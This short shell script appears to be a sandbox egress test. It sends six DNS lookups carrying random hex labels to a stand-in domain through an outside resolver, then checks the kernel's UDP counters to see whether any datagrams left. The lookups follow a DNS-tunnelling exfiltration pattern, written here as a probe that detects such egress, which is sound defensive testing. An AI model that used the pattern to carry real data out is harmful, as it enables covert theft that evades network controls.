#!/bin/sh
. /cases/attempt.sh
for i in 1 2 3 4 5 6; do
    label=$(head -c 28 /dev/urandom | xxd -p -c 60)
    timeout 1 nslookup "$label.$i.t.corpus.example" 198.51.100.53 >/dev/null 2>&1
    attempted query $?
done
sent=$(grep ^Udp: /proc/net/snmp | tail -1 | cut -d' ' -f5)
[ "${sent:-0}" -gt 0 ] && effect "datagrams sent"
finish
